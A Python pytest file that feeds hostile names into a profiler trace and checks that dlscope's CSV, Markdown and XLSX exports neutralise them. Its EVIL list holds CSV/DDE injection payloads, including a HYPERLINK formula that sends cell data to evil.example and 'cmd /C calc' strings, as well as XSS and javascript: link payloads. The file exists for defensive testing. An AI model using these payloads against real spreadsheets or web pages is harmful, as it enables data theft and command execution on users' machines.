"""Names from a hostile trace reach every report as data: no formula a spreadsheet runs, no HTML a Markdown
renderer runs, no raw escape bytes, and each name still reads exactly as the trace wrote it."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt
from test_cli_errors import run_cli
from trace_builder import KinetoTrace

EVIL = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTAB=1+1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "[click me](javascript:alert(3))",
    "![x](http://evil.example/track.png)",
    "red \x1b[31mALERT\x1b[0m bell\x07",
    "under_score *star* `tick` ~tilde~ back\\slash | pipe &amp; entity",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f]")


@pytest.fixture(scope="module")
def reports(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("evil")
    trace = KinetoTrace()
    trace.step(1, 0, 1000)
    for i, name in enumerate(EVIL):
        trace.op(name, 10 + 40 * i, 40 + 40 * i)
        trace.launch(12 + 40 * i, 13 + 40 * i, name, 20 + 40 * i, 30 + 40 * i)
    db = tmp / "evil.sqlite"
    assert run_cli("import", trace.write(tmp / "evil.json"), "-o", db, "-q").returncode == 0
    out = tmp / "reports"
    result = run_cli("report", db, "--reports", "kernel,detail,op_type", "--formats", "csv,md", "-o", out)
    assert result.returncode == 0, result.stderr
    return db, out


def _shown(cell: str) -> str:
    """What a person reads in a cell dlscope neutralised: the leading quote gone, ``\\xNN`` decoded."""
    if cell.startswith("'") and cell[1:].startswith(FORMULA_START):
        cell = cell[1:]
    return re.sub(r"\\x([0-9a-f]{2})", lambda m: chr(int(m.group(1), 16)), cell)


def _check_spreadsheet_cells(rows: list[list[str]]) -> set[str]:
    seen = set()
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START) or re.fullmatch(r"[+-]?[\d.]+(e[+-]?\d+)?", cell), cell
            assert not CONTROL.search(cell), repr(cell)
            seen.add(_shown(cell))
    return seen


@pytest.mark.parametrize("report", ["kernel", "detail", "op_type"])
def test_csv_reports_hold_no_formula_and_no_escape_byte(reports, report):
    _, out = reports
    with open(out / f"{report}.csv", newline="") as f:
        rows = list(csv.reader(f))
    seen = _check_spreadsheet_cells(rows)
    assert set(EVIL) <= seen  # every name is there, readable as written


class _Html(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.cells, self._cell = [], [], None

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        if tag in ("td", "th"):
            self._cell = ""

    def handle_endtag(self, tag):
        if tag in ("td", "th") and self._cell is not None:
            self.cells.append(self._cell)
            self._cell = None

    def handle_data(self, data):
        if self._cell is not None:
            self._cell += data


@pytest.mark.parametrize("report", ["kernel", "detail", "op_type"])
def test_markdown_reports_render_names_as_text_in_a_renderer_that_allows_html(reports, report):
    """markdown-it-py's CommonMark preset passes raw HTML through: only escaping keeps a name inert."""
    _, out = reports
    rendered = MarkdownIt("commonmark").enable("table").render((out / f"{report}.md").read_text())
    page = _Html()
    page.feed(rendered)
    assert {tag for tag, _ in page.tags} <= {"table", "thead", "tbody", "tr", "th", "td"}, page.tags
    assert not any("on" + "error" in attrs or "href" in attrs for _, attrs in page.tags)
    shown = {re.sub(r"\\x([0-9a-f]{2})", lambda m: chr(int(m.group(1), 16)), c) for c in page.cells}
    # a Markdown cell holds one line: the tab shows as itself, everything else exactly as the trace wrote it
    assert {name.strip() for name in EVIL} <= {c.strip() for c in shown}


def test_viewer_csv_and_xlsx_exports_neutralise_names(reports):
    from starlette.testclient import TestClient

    from dlscope.viewer.app import create_app

    db, _ = reports
    with TestClient(create_app([db]), base_url="http://127.0.0.1:8000") as client:
        text = client.get("/api/table/kernels/export.csv").text
        rows = list(csv.reader(io.StringIO(text)))
        assert set(EVIL) <= _check_spreadsheet_cells(rows)
        book = zipfile.ZipFile(io.BytesIO(client.get("/api/table/kernels/export.xlsx").content))
    sheets = "".join(book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/"))
    assert "<f>" not in sheets  # no cell is a formula
    strings = [re.sub(r"&(lt|gt|amp|quot);", lambda m: {"lt": "<", "gt": ">", "amp": "&", "quot": '"'}[m.group(1)], t)
               for t in re.findall(r"<t(?: [^>]*)?>(.*?)</t>", sheets, re.DOTALL)]
    assert set(EVIL) <= _check_spreadsheet_cells([strings])
